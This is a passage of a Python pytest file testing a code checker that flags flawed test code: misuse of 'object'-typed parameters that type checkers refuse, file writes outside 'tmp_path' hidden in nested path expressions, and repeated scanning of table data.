    assert reason.partition(":")[0] in added_smells(before, {})["test_x"]
    assert added_smells(harmless, before) == {}
    assert reason in added_smells(more, before)["test_x"]


@pytest.mark.parametrize(
    ("head", "body", "is_wrong"),
    [
        ("def test_x(shop: object) -> None:", "assert shop.total(1, 1) == 2", True),
        ("def test_x(make: 'object') -> None:", "assert total(make(1), 1) == 2", True),
        ("async def test_x(*, shop: object) -> None:", "assert shop.total == 2", True),
        (
            "def test_x() -> None:",
            "def get(it: object) -> int:\n        return it.price\n    assert total(get(1), 1) == 2",
            True,
        ),
        ("def test_x(shop: object) -> None:", "assert total(shop, 1) == shop.__class__", False),
        ("def test_x(shop) -> None:", "assert shop.total(1, 1) == 2", False),
        ("def test_x(shop: Shop) -> None:", "assert shop.total(1, 1) == 2", False),
        ("def test_x(shop: object | None) -> None:", "assert shop.total(1, 1) == 2", False),
        (
            "def test_x(shop: object) -> None:",
            "assert isinstance(shop, Shop)\n    assert shop.total(1, 1) == 2",
            False,
        ),
        ("def test_x(shop: object) -> None:", "assert callable(shop) and shop(1) == total(1, 1)", False),
        (
            "def test_x(shop: object) -> None:",
            "match shop:\n        case Shop():\n            shop.total(1, 1)\n    assert total(1, 1) == 2",
            False,
        ),
        ("def test_x(shop: object) -> None:", "shop = Shop()\n    assert shop.total(1, 1) == 2", False),
    ],
)
def test_smells_of__a_parameter_that_is_more_than_the_object_that_it_is_said_to_be(
    head: str, body: str, *, is_wrong: bool
) -> None:
    found = smells_of(f"from shop import Shop, total\n\n\n{head}\n    {body}\n", MEMBER)
    assert ("which type checkers refuse" in found.get("test_x", "")) is is_wrong
    assert is_wrong or "test_x" not in found


NESTED = f"{'os.path.join(' * 60}'a'{')' * 60}"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("path = make()\npath = Path(path)\npath.write_text('a')\nassert total(1, 2) == 2", None),
        (f"open({NESTED}, 'w').close()\nassert total(1, 2) == 2", "writes outside `tmp_path`"),
        (
            "\n".join(f"a{n} = os.path.join(a{n - 1})" for n in range(1, 60))
            + "\nopen(a59, 'w').close()\nassert total(1, 2) == 2",
            None,
        ),
    ],
)
def test_smells_of__paths_made_of_themselves_or_of_many_others(body: str, reason: str | None) -> None:
    assert smell(body) == reason


def test_findings__numbers_of_a_table_are_not_looked_at_again_for_each_test() -> None:
    tests = "".join(f"\n\ndef test_{each}():\n    assert total(1, {each}) == {each}\n" for each in range(20))
    few, many = (f"from shop import total\n\nROWS = {[1] * rows}\n{tests}" for rows in (10, 1000))
    assert calls_in(lambda: smells_of(many, MEMBER)) < 4 * calls_in(lambda: smells_of(few, MEMBER))
